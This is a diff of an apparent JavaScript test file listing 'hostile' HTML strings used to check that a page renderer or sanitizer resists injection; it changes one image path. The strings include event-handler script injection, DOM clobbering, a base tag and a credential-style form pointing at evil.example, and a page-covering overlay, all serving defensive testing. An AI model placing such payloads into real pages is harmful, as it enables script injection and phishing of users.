@@ -18,7 +18,7 @@ const state = '{"route":"home","lng":"zh","texts":{},"settings":{},"data":{}}';
 const hostile = [
   `<p id="state">${state}</p><h2 id="state">State</h2><script type="application/json" data-page-state>${state}</script>`,
   `<div id="root"></div><a id="content" name="documentElement" href="#rules">Rules</a>`,
-  `<img name="querySelector" src="/brand/mark.svg" alt="Mark"><img src="x" onerror="window.ran = true" alt="">`,
+  `<img name="querySelector" src="/brand/mark.png" alt="Mark"><img src="x" onerror="window.ran = true" alt="">`,
   `<svg><animate onbegin="window.ran = true" attributeName="x" dur="1s"></animate></svg><base href="https://evil.example/">`,
   `<form action="https://evil.example/"><input name="cookie"><button>Sign in</button></form>`,
   `<div style="position:fixed;inset:0;z-index:9999" class="cover">Over it all</div><style>nav{display:none}</style>`,
